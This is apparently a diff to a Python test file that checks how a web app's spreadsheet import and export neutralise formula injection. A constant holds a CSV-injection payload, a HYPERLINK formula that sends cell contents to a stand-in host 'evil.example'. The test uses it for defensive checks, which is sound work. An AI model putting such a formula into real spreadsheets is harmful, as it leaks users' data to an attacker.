@@ -7,12 +7,13 @@ import io
 
 from openpyxl import load_workbook
 
-from app.exchange.cells import safe_cell, safe_text
+from app.exchange.cells import safe_cell, safe_text, unquote_formula
 from app.store import records
 from app.tables.tables import Handover, HandoverParty, Organisation
 from tests.exchange.conftest import staff_csv
 from tests.helpers import bearer
 
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 
 
@@ -25,6 +26,8 @@ def test_the_gate_strips_control_characters_and_quotes_formulas() -> None:
     assert safe_text("Anna") == "Anna"
     assert safe_cell(-0.5) == -0.5
     assert safe_cell(None) is None
+    for text in ("=1+1", "-", "@x", "'quoted", "'=1", "''-", "''", "'", "Anna"):
+        assert unquote_formula(safe_text(text)) == text
 
 
 def xlsx_rows(content: bytes) -> list[list]:
@@ -94,3 +97,10 @@ async def test_staff_export_of_a_formula_planted_through_an_import(
     assert row[:4] == ["H-1", "'" + FORMULA, "'@SUM(A1)", 0.8]
     text = await client.get(url, params={"format": "csv"}, headers=bearer(keys["registrar"]))
     assert csv_rows(text.content)[1][:4] == ["H-1", "'" + FORMULA, "'@SUM(A1)", "0,8"]
+    for exported, content_type in ((text, "text/csv"), (workbook, XLSX)):
+        again = await client.post(
+            f"/api/v1/handovers/{handover['id']}/staff/imports",
+            content=exported.content,
+            headers={**headers, "Content-Type": content_type},
+        )
+        assert again.json() == {"rows": 1, "written": 0, "problems": []}  # imports back unchanged
